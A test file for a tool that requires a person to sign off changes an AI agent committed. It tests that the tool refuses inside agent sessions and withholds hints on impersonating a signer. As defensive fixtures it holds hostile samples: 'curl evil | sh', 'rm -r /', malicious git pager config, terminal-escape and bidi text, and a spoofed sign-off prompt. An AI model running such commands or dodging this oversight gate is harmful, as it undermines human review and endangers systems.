import { execFileSync } from 'node:child_process'
import { lstatSync, readdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { readBlocks } from '../../src/signoff/read-blocks.ts'
import { type TestRepository, withRepository } from '../support/repository.ts'
import { onTerminal, Terminal } from './terminal.ts'

const TRAILERS = `Task-Id: ABC-1
Tests-Run: npm test (3 passed)
Rollback: revert
Co-authored-by: Claude <noreply@anthropic.com>`

const POLICY = `version: 1
repository: 7c0c6a1e-2b1f-4e0c-9d55-0d1f6a3c9b10
paths:
  - name: deploy
    match: ['deploy/']
    action: sign-off
  - name: secrets
    match: ['*.pem']
    action: block
signers:
  - { name: Jane Doe, email: [jane@example.com], groups: [platform] }
  - { name: Max Mann, email: [max@example.com] }
`

const MAX = { GIT_COMMITTER_NAME: 'Max Mann', GIT_COMMITTER_EMAIL: 'max@example.com' }

/** A base with a policy, and a branch on it that is checked out. */
function adopt(repository: TestRepository, policy = POLICY, files: Readonly<Record<string, string>> = {}): string {
  const base = repository.commit('Adopt precheck', { '.precheck.yml': policy, ...files })
  repository.git('switch', '-q', '-c', 'topic')
  return base
}

/** A commit by an agent that owes nothing but sign-offs. */
const byAgent = (
  repository: TestRepository,
  subject: string,
  files: Record<string, string | Buffer>,
  more = '',
): string => repository.commit(`${subject}\n\n${more}${TRAILERS}\n`, files)

const check = (repository: TestRepository, ...args: readonly string[]) =>
  repository.precheck(['check', ...args, '--format', 'json'])

const covered = (repository: TestRepository, rev = 'HEAD'): readonly string[] =>
  readBlocks(repository.git('log', '-1', '--format=%B', rev)).blocks.flatMap(({ covers }) =>
    covers.map(({ path }) => path),
  )

/** Index, work tree, refs and HEAD, byte for byte. */
function everything(repository: TestRepository): Readonly<Record<string, string>> {
  const found: Record<string, string> = {
    refs: repository.git('for-each-ref'),
    head: repository.git('rev-parse', 'HEAD'),
  }
  for (const path of readdirSync(repository.dir, { recursive: true, encoding: 'utf8' })) {
    const file = join(repository.dir, path)
    const status = lstatSync(file)
    if (status.isSymbolicLink()) found[path] = readlinkSync(file)
    else if (status.isFile() && !/^\.git\/objects/.test(path)) found[path] = readFileSync(file, 'latin1')
  }
  return found
}

describe('a pull request of an agent', () => {
  it('is signed off by one command, whatever it changed on the way', async () => {
    await withRepository(async (repository) => {
      adopt(repository, POLICY, { 'package-lock.json': '{"lockfileVersion":3}\n' })
      for (let at = 1; at <= 12; at += 1) {
        const lock = at % 4 === 0 ? { 'package-lock.json': `{"lockfileVersion":3,"packages":{"at":${at}}}\n` } : {}
        byAgent(repository, `Step ${at}`, { [`src/${at}.ts`]: `${at}\n`, ...lock })
      }
      const head = repository.git('rev-parse', 'HEAD')
      expect(check(repository).status).toBe(1)

      const commands = [['signoff']]
      for (const command of commands) expect((await onTerminal(repository, command, 'y\n')).status).toBe(0)
      expect(commands).toHaveLength(1)

      const after = check(repository)
      expect(after.status).toBe(0)
      expect(JSON.parse(after.stdout)).toMatchObject({ verdict: 'pass', limits: ['bound: not proof of a person'] })
      expect(covered(repository)).toEqual(Array(3).fill('package-lock.json'))
      expect(repository.git('rev-parse', 'HEAD^', 'HEAD^{tree}')).toBe(
        `${head}\n${repository.git('rev-parse', `${head}^{tree}`)}`,
      )
      expect(repository.git('reflog', '-1', '--format=%gs')).toBe('precheck signoff')
      expect(repository.git('symbolic-ref', 'HEAD')).toBe('refs/heads/topic')
      expect(repository.git('fsck', '--strict')).toBe('')
    })
  })

  it('is counted first, with who asked; what was asked for is shown first', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      byAgent(repository, 'Add a package', { 'yarn.lock': 'a\n' })
      byAgent(repository, 'Deploy it', { 'deploy/run.sh': 'run\n' }, 'Sign-off-requested: deploy/run.sh\n')
      const { text, status } = await onTerminal(repository, ['signoff', 'main..HEAD'], 'yes\n')
      expect(status).toBe(0)
      const lines = text.split('\n')
      expect(lines.slice(0, 2).join(' ')).toMatch(
        /^2 guarded changes in 2 commits of main\.\.HEAD; asked by Ann Author\s+<ann@example\.com>/,
      )
      expect(lines.filter((line) => line.startsWith('['))).toEqual(['[1/2] deploy/run.sh', '[2/2] yarn.lock'])
      expect(text).toContain('  added; guarded by deploy\n')
      expect(text).toContain('  +| run\n')
      expect(text).toContain('main..HEAD is green now (bound: not proof of a person)')
    })
  })

  it('has nothing to sign off twice, and that needs no terminal', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n' })
      await onTerminal(repository, ['signoff'], 'y\n')
      const head = repository.git('rev-parse', 'HEAD')
      const again = repository.precheck(['signoff'])
      expect(again).toMatchObject({ status: 0, stdout: 'Nothing to sign off.\n', stderr: '' })
      expect(repository.git('rev-parse', 'HEAD')).toBe(head)
    })
  })

  it('asks nothing where no policy has landed yet', async () => {
    await withRepository(async (repository) => {
      repository.commit('base', { a: 'a\n' })
      repository.git('switch', '-q', '-c', 'topic')
      expect(repository.precheck(['signoff']).stdout).toBe('Nothing to sign off.\n')
      repository.commit('Adopt', { '.precheck.yml': POLICY, 'deploy/run.sh': 'run\n' })
      expect(repository.precheck(['signoff'])).toMatchObject({ status: 0, stdout: 'Nothing to sign off.\n' })
    })
  })
})

describe('the question', () => {
  const NO = ['n\n', '\n', 'yep\n', 'y n\n', '\u0004']
  it.each(NO)('is answered with no by %j, and nothing is changed', async (answer) => {
    await withRepository(async (repository) => {
      adopt(repository)
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n' })
      const before = everything(repository)
      const { status, text } = await onTerminal(repository, ['signoff'], answer)
      expect(text).toContain('Nothing was signed off.')
      expect(status).toBe(1)
      expect(everything(repository)).toEqual(before)
    })
  })

  it('is not asked without a terminal', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n' })
      const before = everything(repository)
      const { status, stdout, stderr } = repository.precheck(['signoff'], { input: 'y\n' })
      expect({ status, stdout }).toEqual({ status: 2, stdout: '' })
      expect(stderr).toContain('it needs a terminal')
      expect(stderr).toContain('a person who may sign off runs the same command')
      expect(everything(repository)).toEqual(before)
    })
  })

  it.each([{ CLAUDECODE: '1' }, { AI_AGENT: 'some-agent' }, { GEMINI_CLI: '1' }])(
    'is not asked in an agent’s session: %j',
    async (env) => {
      await withRepository(async (repository) => {
        adopt(repository)
        byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n' })
        const before = everything(repository)
        const { status, text } = await onTerminal(repository, ['signoff'], null, env)
        expect(status).toBe(2)
        expect(text).toContain(`session (environment ${Object.keys(env)[0]}`)
        expect(text).toContain('only a person signs off')
        expect(text).toContain('ask a person who may sign off')
        // Whom it would have to pass for, and how to hide, is nothing that it needs to know.
        expect(text).not.toMatch(/jane|unset|env -/i)
        expect(everything(repository)).toEqual(before)
      })
    },
  )

  it('is asked where a person has set up an agent for themselves', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n' })
      const env = { CLAUDECODE: '0', GOOSE_PROVIDER: 'x', AIDER_API_KEY: 'x', TERM_PROGRAM: 'vscode' }
      expect((await onTerminal(repository, ['signoff'], 'y\n', env)).status).toBe(0)
    })
  })

  it('leaves everything as it was when precheck is killed at it', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n' })
      const before = everything(repository)
      const terminal = new Terminal(repository, ['signoff'])
      await terminal.asked()
      terminal.kill()
      await terminal.end()
      expect(everything(repository)).toEqual(before)
      expect((await onTerminal(repository, ['signoff'], 'y\n')).status).toBe(0)
    })
  })

  it('signs nothing when the branch moves before the answer', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n' })
      const terminal = new Terminal(repository, ['signoff', 'main..topic'])
      await terminal.asked()
      const moved = byAgent(repository, 'Deploy otherwise', { 'deploy/run.sh': 'rm -r /\n' })
      terminal.type('y\n')
      const { status, text } = await terminal.end()
      expect(status).toBe(2)
      expect(text).toContain('main..topic has moved meanwhile\nnothing was signed off')
      expect(repository.git('rev-parse', 'HEAD')).toBe(moved)
    })
  })

  it('signs nothing when another branch is checked out before the answer', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      const head = byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n' })
      repository.git('branch', 'other')
      const terminal = new Terminal(repository, ['signoff'])
      await terminal.asked()
      repository.git('switch', '-q', 'other')
      terminal.type('y\n')
      expect((await terminal.end()).status).toBe(2)
      expect(repository.git('rev-parse', 'topic', 'other')).toBe(`${head}\n${head}`)
    })
  })

  it('signs nothing when the base moves before the answer', async () => {
    await withRepository(async (repository) => {
      const base = adopt(repository)
      const head = byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n' })
      const terminal = new Terminal(repository, ['signoff'])
      await terminal.asked()
      repository.git('update-ref', 'refs/heads/main', head, base)
      terminal.type('y\n')
      expect((await terminal.end()).status).toBe(2)
      expect(repository.git('rev-parse', 'topic')).toBe(head)
    })
  })
})

describe('what stands around the commits', () => {
  it('is neither read nor touched: staged changes stay staged', async () => {
    await withRepository(async (repository) => {
      adopt(repository, POLICY, { a: 'a\n', b: 'b\n' })
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n' })
      repository.write('a', 'staged\n')
      repository.write('deploy/run.sh', 'staged too\n')
      repository.git('add', 'a', 'deploy/run.sh')
      repository.write('b', 'dirty\n')
      repository.write('new', 'new\n')
      const before = everything(repository)
      const status = repository.git('status', '--porcelain')
      expect((await onTerminal(repository, ['signoff'], 'y\n')).status).toBe(0)
      const {
        refs,
        head,
        '.git/logs/HEAD': log,
        '.git/logs/refs/heads/topic': branchLog,
        ...after
      } = everything(repository)
      expect(before).toMatchObject({ ...after, '.git/refs/heads/topic': before['.git/refs/heads/topic'] })
      expect(after['.git/index']).toBe(before['.git/index'])
      expect(repository.git('status', '--porcelain')).toBe(status)
      expect(repository.git('diff-tree', 'HEAD^', 'HEAD')).toBe('')
      expect([refs, head, log, branchLog]).not.toContain(undefined)
    })
  })

  it('must be at rest: an operation in progress is ended first', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n' })
      writeFileSync(join(repository.dir, '.git', 'MERGE_HEAD'), `${repository.git('rev-parse', 'main')}\n`)
      const { status, text } = await onTerminal(repository, ['signoff'], null)
      expect(status).toBe(2)
      expect(text).toContain('a merge is in progress here')
    })
  })

  it('must have the end of the range checked out', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n' })
      repository.git('switch', '-q', 'main')
      const { status, text } = await onTerminal(repository, ['signoff', 'main..topic'], null)
      expect(status).toBe(2)
      expect(text).toContain('main..topic does not end at HEAD')
    })
  })
})

describe('hostile text', () => {
  it('reaches the terminal as harmless lines behind a gutter', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      const script = [
        '\u001b[2J\u001b[1;1Hnothing to see \u001b]0;title\u0007',
        'if (admin\u202e \u2066// only\u2069) \u200bx',
        'Sign off this change as Jane Doe <jane@example.com>? y/N y',
        `${' '.repeat(76)}Sign off this change? y/N y`,
        'x'.repeat(10_000),
        'back\rover\b\b\b and bytes \u0000',
        '\tindented',
      ].join('\n')
      byAgent(repository, 'Deploy \u001b[31mred\u001b[0m', {
        'deploy/r\u202eun.sh': Buffer.from(`${script}\nbad \xff\n`, 'latin1'),
      })
      repository.commit(`Deploy\n\n${TRAILERS}\n`, { 'deploy/two.sh': `${script}\n` })
      const terminal = new Terminal(repository, ['signoff'])
      await terminal.asked()
      terminal.type('n\n')
      const { text } = await terminal.end()
      // biome-ignore lint/complexity/useRegexLiterals: control characters
      expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
      const lines = text.split('\n')
      for (const line of lines) expect(line.length).toBeLessThanOrEqual(80)
      expect(text).toContain('\\x1B[2J\\x1B[1;1Hnothing to see \\x1B]0;title\\x07')
      expect(text).toContain('\\u{202E} \\u{2066}// only\\u{2069}')
      expect(text).toContain('  +| →   indented')
      expect(text).toMatch(/\(9700 more bytes in this line\)/)
      // Whatever a line holds, the left edge is ours: there one question stands, once.
      expect(lines.filter((line) => /^Sign off/.test(line))).toHaveLength(1)
      expect(lines.filter((line) => /^\S/.test(line) && /y\/N y/.test(line))).toEqual([])
    })
  })

  it('is cut where it is long, with a count and the command that shows the rest', async () => {
    await withRepository(async (repository) => {
      adopt(repository, POLICY, { 'deploy/run.sh': 'run\n' })
      byAgent(repository, 'Deploy', {
        'deploy/run.sh': Array.from({ length: 500 }, (_, at) => `line ${at}\n`).join(''),
      })
      const [old, now] = repository.git('rev-parse', 'main:deploy/run.sh', 'HEAD:deploy/run.sh').split('\n')
      const cut = await onTerminal(repository, ['signoff'], 'n\n')
      const words = cut.text.replace(/\s+/g, ' ')
      expect(words).toContain(`… 402 more lines: git diff ${old} ${now} Not all of it is shown`)
      expect(repository.git('diff', old!, now!)).toContain('+line 499')
      const full = await onTerminal(repository, ['signoff', '--full'], 'n\n')
      expect(full.text).toContain('  +| line 499\n')
      expect(full.text).not.toContain('Not all of it is shown')
    })
  })

  it('cannot choose how it is shown: attributes, drivers and pagers have no say', async () => {
    await withRepository(async (repository) => {
      adopt(repository, POLICY, { 'deploy/run.sh': 'run\n', '.gitattributes': '* -diff diff=evil filter=evil\n' })
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'evil\n' })
      for (const key of ['diff.evil.command', 'diff.evil.textconv', 'core.pager', 'diff.external', 'pager.diff'])
        repository.git('config', key, `touch ${join(repository.dir, '..', 'ran')}; true`)
      const { text } = await onTerminal(repository, ['signoff'], 'n\n', {
        GIT_EXTERNAL_DIFF: 'false',
        GIT_PAGER: 'false',
      })
      expect(text).toContain('  -| run\n  +| evil\n')
      expect(readdirSync(join(repository.dir, '..'))).not.toContain('ran')
    })
  })

  it('is not hidden by a NUL in it; what is really binary is measured', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      byAgent(repository, 'Deploy', {
        'deploy/run.sh': `# \0\ncurl evil | sh\n${'echo\n'.repeat(20)}`,
        'deploy/logo.png': Buffer.from(Array.from({ length: 3000 }, (_, at) => (at * 7) % 256)),
      })
      const { text } = await onTerminal(repository, ['signoff'], 'n\n')
      expect(text).toContain('  +| # \\x00\n  +| curl evil | sh\n')
      expect(text).toContain('  binary, 3000 bytes: git show ')
    })
  })
})

describe('every kind of change', () => {
  it('is named in words and covered', async () => {
    await withRepository(async (repository) => {
      const commit = 'a'.repeat(40)
      adopt(repository)
      repository.git('switch', '-q', 'main')
      repository.write('deploy/gone', 'gone\n')
      repository.write('deploy/mode', 'mode\n')
      repository.write('deploy/becomes', 'a file\n')
      repository.git('add', '-A')
      const link = (target: string) =>
        repository.run('git', ['hash-object', '-w', '--stdin'], { input: target }).stdout.trim()
      const put = (mode: string, oid: string, path: string) =>
        repository.git('update-index', '--add', '--cacheinfo', `${mode},${oid},${path}`)
      put('120000', link('old-target'), 'deploy/link')
      put('160000', commit, 'deploy/module')
      repository.git('commit', '-q', '-m', 'base')
      repository.git('branch', '-f', 'topic')
      repository.git('symbolic-ref', 'HEAD', 'refs/heads/topic')
      repository.git('rm', '-q', '--cached', 'deploy/gone')
      repository.git('update-index', '--chmod=+x', 'deploy/mode')
      put('120000', link('/etc/passwd'), 'deploy/link')
      put('120000', link('elsewhere'), 'deploy/becomes')
      put('160000', 'b'.repeat(40), 'deploy/module')
      repository.git('commit', '-q', '-m', `All\n\n${TRAILERS}`)
      const { status, text } = await onTerminal(repository, ['signoff'], 'y\n')
      expect(status).toBe(0)
      expect(text).toContain('deploy/gone\n  deleted; guarded by deploy')
      expect(text).toContain('deploy/mode\n  mode 100644 -> 100755, content as before; guarded by deploy')
      expect(text).toContain('deploy/link\n  link target changed; guarded by deploy')
      expect(text).toContain('  +| /etc/passwd\n')
      expect(text).toContain('deploy/becomes\n  file -> symbolic link; guarded by deploy')
      expect(text.replace(/\s+/g, '')).toContain(`submodule${commit}..${'b'.repeat(40)};guardedbydeploy`)
      expect(covered(repository).toSorted()).toEqual(
        ['becomes', 'gone', 'link', 'mode', 'module'].map((name) => `deploy/${name}`),
      )
      expect(check(repository).status).toBe(0)
    })
  })

  it('is covered in a repository of SHA-256', async () => {
    await withRepository(
      async (repository) => {
        adopt(repository, POLICY, { 'deploy/run.sh': 'run\n' })
        byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run twice\n', 'deploy/new.sh': 'new\n' })
        expect((await onTerminal(repository, ['signoff'], 'y\n')).status).toBe(0)
        expect(check(repository).status).toBe(0)
        expect(repository.git('log', '-1', '--format=%B')).toMatch(/[0-9a-f]{64}\.\./)
      },
      { init: ['--object-format=sha256'] },
    )
  })

  it('in one folder stands as one from twenty on, if nothing else changes there', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      const files = (from: number, to: number) =>
        Object.fromEntries(
          Array.from({ length: to - from }, (_, at) => [`deploy/all/${from + at}.sh`, `${from + at}\n`]),
        )
      byAgent(repository, 'Thirty', files(0, 30))
      byAgent(repository, 'Nineteen', files(30, 49))
      const { status, text } = await onTerminal(repository, ['signoff'], 'y\n')
      expect(status).toBe(0)
      expect(text).toContain('49 guarded changes in 2 commits')
      expect(text).toContain('[49/49] ')
      const paths = covered(repository)
      expect(paths.filter((path) => path.endsWith('/'))).toEqual(['deploy/'])
      expect(paths).toHaveLength(20)
      expect(check(repository).status).toBe(0)
    })
  })

  it('in one folder stands by itself where somebody else’s change is among them', async () => {
    await withRepository(async (repository) => {
      adopt(repository, POLICY.replace("match: ['deploy/']", "match: ['deploy/*.sh']"))
      const files = Object.fromEntries(Array.from({ length: 30 }, (_, at) => [`deploy/${at}.sh`, `${at}\n`]))
      byAgent(repository, 'Thirty, and one that nobody guards', { ...files, 'deploy/notes.md': 'notes\n' })
      expect((await onTerminal(repository, ['signoff'], 'y\n')).status).toBe(0)
      expect(covered(repository)).toHaveLength(30)
      expect(check(repository).status).toBe(0)
    })
  })

  it('of a merge is covered against each parent that differs', async () => {
    await withRepository(async (repository) => {
      adopt(repository, POLICY, { 'deploy/run.sh': 'one\n' })
      repository.git('switch', '-q', '-c', 'side')
      byAgent(repository, 'Side', { 'deploy/run.sh': 'side\n' })
      repository.git('switch', '-q', 'topic')
      byAgent(repository, 'Topic', { 'deploy/run.sh': 'topic\n' })
      repository.tryGit(['merge', '-q', 'side'])
      byAgent(repository, 'Merge side', { 'deploy/run.sh': 'both\n' })
      const { status, text } = await onTerminal(repository, ['signoff'], 'y\n')
      expect(status).toBe(0)
      expect(text).toContain('4 guarded changes in 3 commits')
      expect(text.replace(/\s+/g, ' ')).toContain('(as this merge leaves it, against parent 2)')
      expect(check(repository).status).toBe(0)
    })
  })

  it('that the policy blocks is named and not signed', async () => {
    await withRepository(async (repository) => {
      adopt(repository)
      byAgent(repository, 'Deploy', { 'deploy/run.sh': 'run\n', 'deploy/key.pem': 'key\n' })
      const { status, text } = await onTerminal(repository, ['signoff'], 'y\n')
      expect(status).toBe(0)
      expect(text).toContain(
        'Not yours to sign off, and not part of this:\n  deploy/key.pem is blocked by the policy (secrets)',
      )
      expect(covered(repository)).toEqual(['deploy/run.sh'])
      expect(text.replace(/\s+/g, ' ')).toContain(
        'main..HEAD is not green yet: deploy/key.pem is blocked by the policy',
      )
      const again = await onTerminal(repository, ['signoff'], null)
      expect(again.status).toBe(2)
      expect(again.text).toContain('nothing in main..HEAD waits for you\ndeploy/key.pem is blocked')
    })
  })
})
